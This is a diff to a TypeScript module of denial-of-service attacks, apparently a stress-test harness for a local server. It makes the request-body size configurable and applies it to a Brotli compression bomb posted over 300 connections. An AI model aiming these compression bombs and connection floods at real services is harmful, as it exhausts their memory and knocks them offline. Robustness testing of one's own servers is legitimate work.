@@ -12,6 +12,8 @@ export interface AttackTarget {
   localAddress: string;
   /** Items that can be read. */
   items: readonly string[];
+  /** Size of large bodies, before compression; default 8 MiB, which is the limit. */
+  bodyBytes?: number;
 }
 
 /** One kind of attack: what is sent over how many connections, and whether answers are read. */
@@ -49,8 +51,9 @@ function batch(target: AttackTarget, count: number, method: string, params: obje
 
 /** `begin` and `end` around as many `member`s as a body takes. */
 function filled(target: AttackTarget, begin: string, member: (index: number) => string, end: string): Buffer {
+  const { bodyBytes = bodyBytesMax } = target;
   const members: string[] = [];
-  for (let length = 0; length < bodyBytesMax - begin.length - end.length - 100; ) {
+  for (let length = 0; length < bodyBytes - begin.length - end.length - 100; ) {
     const text = member(members.length);
     members.push(text);
     length += text.length + 1;
@@ -111,7 +114,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
     connections: 300,
     request: (target) => {
       const params = { [constants.BROTLI_PARAM_QUALITY]: 1 };
-      const bomb = brotliCompressSync(Buffer.alloc(bodyBytesMax, ' '), { params });
+      const bomb = brotliCompressSync(Buffer.alloc(target.bodyBytes ?? bodyBytesMax, ' '), { params });
       return post(target, bomb, 'Content-Encoding: br\r\n');
     },
   },
